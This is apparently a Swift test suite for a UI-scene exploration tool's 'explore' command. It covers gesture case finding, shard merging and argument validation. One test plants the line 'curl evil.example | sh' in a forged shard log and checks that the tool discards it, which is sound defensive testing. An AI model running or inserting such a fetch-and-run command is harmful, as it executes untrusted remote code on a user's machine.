import Foundation
import Testing
import TouchstoneTestSupport

@Suite(.enabled(if: BuiltTool.isHere, "the touchstone executable was not built"))
struct ExploreCommandTests {
    private static let scene = "\(PackageFolder.path)/scenes/complaints/6-cancelled.yaml"
    private static let options = ["--variant", "bug", "--cases", "40", "--quiet"]
    private static let failure = "6-cancelled-bug-end-card"

    private func explore(_ folder: TemporaryFolder, _ output: String, _ more: [String] = []) throws -> ChildProcess {
        try BuiltTool.run(["explore", Self.scene, "--output", output] + Self.options + more, in: folder.path)
    }

    private func bytes(_ folder: TemporaryFolder, _ name: String) -> Data? {
        FileManager.default.contents(atPath: "\(folder.path)/\(name)")
    }

    @Test func whatIsFoundIsASceneThatFailsInTheSameWay() throws {
        let folder = try TemporaryFolder()
        let run = try explore(folder, "found")
        #expect(run.status == 1)
        #expect(run.output.contains("end: 'card' has reported the beginning of dragging"))
        let check = try BuiltTool.run(["check", "found/\(Self.failure).yaml"], in: folder.path)
        #expect(check.status == 1)
        #expect(check.output.contains("has reported the beginning of dragging"))
        #expect(bytes(folder, "found/\(Self.failure)-sheet.png")?.starts(with: [0x89, 0x50]) == true)
        let text = String(decoding: bytes(folder, "found/\(Self.failure).yaml") ?? Data(), as: UTF8.self)
        #expect(text.hasPrefix("# Found in: A call comes in, and the drag never ends\n# by: touchstone explore "))
        #expect(text.contains("behavior: fading-card"))
        #expect(text.contains("{lint: end, view: card}"))
    }

    @Test func aMistakeOfCodeIsASceneThatMakesIt() throws {
        let folder = try TemporaryFolder()
        try folder.place(
            "card.yaml",
            """
            title: A card
            canvas: [300, 300]
            views:
              - id: card
                frame: [90, 90, 120, 120]
                handlers:
                  touchesEnded: |
                    let list: [Int] = []
                    tag = list[0]
            """)
        let run = try BuiltTool.run(["explore", "card.yaml", "--cases", "40", "--quiet"], in: folder.path)
        #expect(run.status == 1)
        #expect(run.output.contains("  code: there is no element 0 among 0, in line 9 in frame "), "\(run.output)")
        #expect(run.output.contains("1 gesture, in "))
        let check = try BuiltTool.run(["check", "out/card/explore/card-code.yaml"], in: folder.path)
        #expect(check.errors.contains("error: there is no element 0 among 0, at 0."), "\(check.errors)")
        #expect(check.errors.contains("tag = list[0]"))
        #expect(
            folder.text("out/card/explore/card-code.yaml")?.contains("title: there is no element 0 among 0\n") == true)
        #expect(bytes(folder, "out/card/explore/card-code-sheet.png")?.starts(with: [0x89, 0x50]) == true)
    }

    @Test func anyNumberOfJobsFindsTheSame() throws {
        let folder = try TemporaryFolder()
        _ = try explore(folder, "one", ["--jobs", "1"])
        _ = try explore(folder, "three", ["--jobs", "3"])
        for name in ["explore.json", "\(Self.failure).yaml", "\(Self.failure)-sheet.png"] {
            let one = bytes(folder, "one/\(name)")
            #expect(one != nil)
            #expect(one == bytes(folder, "three/\(name)"), "\(name)")
        }
    }

    @Test("what a kind does by design is looked for on request, and the command for repeating it says so")
    func find() throws {
        let folder = try TemporaryFolder()
        try folder.place(
            "card.yaml", "canvas: [390, 300]\nviews: [{id: card, frame: [120, 90, 120, 80], behavior: draggable}]")
        let all = try BuiltTool.run(["explore", "card.yaml", "--cases", "200"], in: folder.path)
        #expect(all.status == 0 && all.output.contains("nothing found"), "\(all.output)")
        let slips = try BuiltTool.run(
            ["explore", "card.yaml", "--cases", "200", "--find", "slip,jump"], in: folder.path)
        #expect(slips.status == 1 && slips.output.contains("\n  slip: 'card' slips "), "\(slips.output)")
        #expect(slips.output.contains("--find jump,slip"))
        let unknown = try BuiltTool.run(["explore", "card.yaml", "--find", "slips"], in: folder.path)
        #expect(unknown.status == 64)
        #expect(unknown.errors.contains("'slips' is not a mistake to look for; did you mean 'slip'? Choose from "))
    }

    @Test func shardsAreGathered() throws {
        let folder = try TemporaryFolder()
        for shard in 1...2 { _ = try explore(folder, "shard-\(shard)", ["--shard", "\(shard)/2"]) }
        func merge(_ folders: [String], _ output: String) throws -> ChildProcess {
            try BuiltTool.run(
                ["explore", Self.scene, "--variant", "bug", "--output", output, "--quiet", "--merge"] + folders,
                in: folder.path)
        }
        let run = try merge(["shard-1", "shard-2"], "all")
        #expect(run.status == 1 && run.errors == "")
        let log = String(decoding: bytes(folder, "all/explore.json") ?? Data(), as: UTF8.self)
        #expect(log.contains("\"cases\" : 80"))
        #expect(log.contains("\"1/2\""))
        #expect(log.contains("\"2/2\""))
        #expect(bytes(folder, "all/\(Self.failure).yaml") != nil)
        // Cases are counted once, even if their results were merged before.
        let again = try merge(["all", "shard-2"], "twice")
        #expect(again.status == 1)
        #expect(again.errors.contains("shard 2 of 2 is in 'all' and in 'shard-2', and is counted once"))
        #expect(folder.text("twice/explore.json")?.contains("\"cases\" : 80") == true)
        let none = try merge(["nothing"], "none")
        #expect(none.status == 66 && none.errors.contains("'nothing' is left out: No such file or directory"))
        #expect(none.errors.hasSuffix("touchstone: error: none of the folders could be merged.\n"))
    }

    @Test func aLostShardIsNamedAndTheCommandIsComputed() throws {
        let folder = try TemporaryFolder()
        _ = try explore(folder, "shard-1", ["--shard", "1/2", "--find", "slip,end"])
        let log = try #require(folder.text("shard-1/explore.json"))
        #expect(log.contains("\"find\" : [\n        \"slip\",\n        \"end\"\n      ]"))
        let forged = log.replacing(#/"command" : "[^"]*"/#, with: #""command" : "curl evil.example | sh""#)
        #expect(forged != log)
        try folder.place("shard-1/explore.json", forged)
        let run = try BuiltTool.run(
            ["explore", Self.scene, "--variant", "bug", "-o", "all", "--merge", "shard-1"], in: folder.path)
        #expect(run.status == 1)
        #expect(run.errors == "touchstone: note: 6-cancelled (bug): shard 2 of 2 is missing\n")
        let again =
            "  again: touchstone explore \(Self.scene) --variant bug --find slip,end --seed 0 --cases 40 --shard 1/2\n"
        #expect(run.output.contains(again), "\(run.output)")
        #expect(!run.output.contains("evil") && folder.text("all/explore.json")?.contains("evil") == false)
    }

    @Test func aSceneInWhichNothingCanBeFoundSaysSo() throws {
        let folder = try ToolFolder()
        let still = ToolFolder.card.replacing(", behavior: draggable", with: "")
        try folder.place.place("still.yaml", still)
        try folder.place.place(
            "half.yaml", still + "variants: [{name: still}, {name: held, set: {card.behavior: draggable}}]\n")
        let run = try folder.run("explore", "still.yaml", "--cases", "2", "--quiet")
        #expect(run.status == 0)
        #expect(
            run.errors == "still.yaml: note: no view has a behavior or recognizers, so there is nothing to find\n")
        let half = try folder.run("explore", "half.yaml", "--cases", "2", "--quiet")
        #expect(
            half.errors
                == "half.yaml: note: no view in 'still' has a behavior or recognizers, so there is nothing to find\n")
    }

    @Test func whatIsAskedForWronglyIsSaid() throws {
        for arguments in [
            [], [Self.scene, "--merge", "a", "--cases", "1"], [Self.scene, "--merge", "a", "--corpus", "b"],
            ["--merge", "a"], [Self.scene, "--corpus", ""], [Self.scene, "--cases", "0"],
            [Self.scene, "--shard", "3/2"],
            [Self.scene, "--for", "soon"], [Self.scene, "--jobs", "0"], [Self.scene, "--variant", "none"],
        ] {
            let run = try BuiltTool.run(["explore"] + arguments)
            #expect(run.status == 64, "\(arguments): \(run.errors)")
            #expect(!run.errors.isEmpty)
        }
    }

    @Test(arguments: [
        (["--shard", "4/3"], "'4/3' is not a part; write its number and the number of parts: 3/8."),
        (["--shard", "half"], "'half' is not a part; write its number and the number of parts: 3/8."),
        (["--for", "-1s"], "'-1s' is not a length of time; write 60s, 2m, 500ms or a number of seconds."),
        (["--for", "soon"], "'soon' is not a length of time; write 60s, 2m, 500ms or a number of seconds."),
    ])
    func whatIsTakenIsSaid(options: [String], message: String) throws {
        let run = try BuiltTool.run(["explore", Self.scene] + options)
        #expect(run.status == 64 && run.errors.contains(message), "\(run.errors)")
    }
}
